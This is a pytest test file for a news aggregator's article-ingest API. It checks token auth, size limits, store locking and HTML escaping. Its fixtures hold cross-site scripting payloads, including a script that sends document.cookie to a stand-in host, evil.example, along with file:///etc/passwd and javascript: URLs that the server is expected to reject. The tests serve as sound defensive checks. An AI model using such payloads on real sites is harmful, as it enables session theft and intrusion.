"""POST /articles (text, HTML, a URL) behind its token, the limits and errors around it, text
from a hostile input escaped on every page, and pages that follow the store as another
connection writes it (no restart)."""

from __future__ import annotations

import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from web_helpers import CORPUS, Client, build_store

from newsfuse.config import Settings
from newsfuse.pipeline import Pipeline
from newsfuse.store import Store
from newsfuse.web import create_app

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))  # tests/: watch_helpers
from watch_helpers import Site, html, page_html, start, stop

TOKEN = "t0ken-for-the-tests-only"
AUTH = {"authorization": f"Bearer {TOKEN}"}
EVIL_TITLE = '<script>alert("t")</script> Harbour <img src=x onerror=alert(1)> strike'
EVIL_TEXT = (
    "Dockworkers at the port of Haverlund walked out on Tuesday, the union said. "
    '<script>document.location="https://evil.example/?c="+document.cookie</script> '
    "The strike will last 72 hours, union leader Petra Solvang told reporters.\n\n"
    "Ships queued outside the harbour <b onmouseover=alert(2)>all day</b>, the port authority said."
)


@pytest.fixture(scope="module")
def small_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    inputs = [
        str(CORPUS / "haverlund-courier-port-strike.html"),
        str(CORPUS / "riverlands-today-port-strike.txt"),
    ]
    return build_store(tmp_path_factory.mktemp("ingest") / "s.db", inputs)


@pytest.fixture(scope="module")
def client(small_store: Path) -> Iterator[Client]:
    c = Client(create_app(small_store, ingest_token=TOKEN, max_body=200_000))
    yield c
    c.close()


def test_ingest_text_then_see_it_everywhere_escaped(client: Client, small_store: Path) -> None:
    r = client.post(
        "/articles",
        json={"text": EVIL_TEXT, "title": EVIL_TITLE, "outlet": "Port <Watch>"},
        headers=AUTH,
    )
    assert r.status_code == 201, r.text
    body = r.json()
    article = body["article"]
    assert body["url"] == f"/articles/{article}" and body["failures"] == []
    assert body["stories"], "the article joined a story"
    got = client.get(f"/articles/{article}.json").json()["article"]
    assert got["title"] == EVIL_TITLE and "Petra Solvang" in got["text"]
    # the inbox file holding it is named by its content id, beside the store
    assert (small_store.parent / "s.db.inbox" / f"post-{article}.jsonl").is_file()
    pages = [
        f"/articles/{article}",
        f"/stories/{body['stories'][0]['id']}",
        "/stories",
        "/articles",
        "/search?q=dockworkers",
    ]
    for path in pages:
        text = client.get(path).text
        assert "<script>alert" not in text and "<script>document" not in text, path
        assert "<img src=x" not in text and "<b onmouseover" not in text, path
        assert "Port <Watch>" not in text, path
    page = client.get(f"/articles/{article}").text
    assert "&lt;script&gt;alert(&#34;t&#34;)&lt;/script&gt;" in page
    # posting the same text again is idempotent: the same article
    again = client.post("/articles", json={"text": EVIL_TEXT, "title": EVIL_TITLE}, headers=AUTH)
    assert again.status_code == 201 and again.json()["article"] == article


def test_ingest_html_and_url(client: Client) -> None:
    page = page_html(
        "a1", "Ostra barriers raised as 1,200 leave Harbour district", "Tallby Post"
    ).decode()
    r = client.post(
        "/articles", json={"html": page, "url": "https://tallby.example/a1"}, headers=AUTH
    )
    assert r.status_code == 201, r.text
    got = client.get(f"/articles/{r.json()['article']}.json").json()["article"]
    assert (
        got["url"] == "https://tallby.example/a1"
        and "4.2 metres" in got["text"]
        and "newsletter" not in got["text"]
    )
    site = start(Site())
    site.routes["/a2"] = html(
        page_html("a2", "Around 1,500 evacuated in Tallby", "Vesterholm Daily")
    )
    try:
        r = client.post("/articles", json={"url": site.base + "/a2"}, headers=AUTH)
        assert r.status_code == 201, r.text
        got = client.get(f"/articles/{r.json()['article']}.json").json()["article"]
        assert got["url"] == site.base + "/a2" and "Red Cord" in got["text"]
        dead = client.post("/articles", json={"url": site.base + "/nothing"}, headers=AUTH)
        assert dead.status_code == 422 and "HTTP 404" in dead.json()["error"]["message"]
    finally:
        stop(site)


@pytest.mark.parametrize(
    ("body", "message"),
    [
        ({}, "give 'url'"),
        ({"text": "a", "html": "<p>b</p>"}, "not both"),
        ({"text": "   "}, "empty"),
        ({"url": "file:///etc/passwd"}, "http or https"),
        ({"url": "javascript:alert(1)"}, "http or https"),
        ({"text": "x", "path": "/etc/passwd"}, "'path'"),
        ({"text": 5}, "'text'"),
        ({"text": "x", "title": "t" * 3000}, "'title'"),
    ],
)
def test_bad_bodies_are_422(client: Client, body: dict[str, object], message: str) -> None:
    r = client.post("/articles", json=body, headers=AUTH)
    assert r.status_code == 422 and message in r.json()["error"]["message"], r.text


def test_tokens_limits_and_a_busy_store(client: Client, small_store: Path, tmp_path: Path) -> None:
    assert client.post("/articles", json={"text": "x"}).status_code == 401
    wrong = client.post("/articles", json={"text": "x"}, headers={"authorization": "Bearer nope"})
    assert wrong.status_code == 403 and "wrong" in wrong.json()["error"]["message"]
    assert (
        client.post(
            "/articles", content=b"{not json", headers={**AUTH, "content-type": "application/json"}
        ).status_code
        == 422
    )
    big = client.post("/articles", json={"text": "word " * 50_000}, headers=AUTH)
    assert big.status_code == 413 and "200,000 bytes" in big.json()["error"]["message"]
    # another run holds the store: 409 at once, with Retry-After
    with Store(small_store) as holder, holder.run_lock():
        busy = client.post("/articles", json={"text": "Busy " + EVIL_TEXT}, headers=AUTH)
    assert busy.status_code == 409 and busy.headers["retry-after"] == "30"
    assert "busy" in busy.json()["error"]["message"]
    # ingest off: every POST is 403 and says how to turn it on
    off = Client(create_app(small_store))
    try:
        r = off.post("/articles", json={"text": "x"}, headers=AUTH)
        assert r.status_code == 403 and "--ingest-token" in r.json()["error"]["message"]
    finally:
        off.close()


def test_pages_follow_the_store_as_another_connection_writes_it(tmp_path: Path) -> None:
    path = build_store(tmp_path / "grow.db", [str(CORPUS / "riverlands-today-zarnovia-row.txt")])
    c = Client(create_app(path))
    try:
        before = c.get("/stories.json").json()
        assert before["total"] == 1 and before["store"]["articles"] == 1
        with Store(path) as writer:  # another connection, as a watch process would be
            Pipeline(Settings()).run(
                [str(CORPUS / "haverlund-courier-port-strike.html")], store=writer
            )
        after = c.get("/stories.json").json()
        assert after["store"]["articles"] == 2 and after["total"] == 2
        assert c.get("/status.json").json()["counts"]["articles"] == 2
    finally:
        c.close()
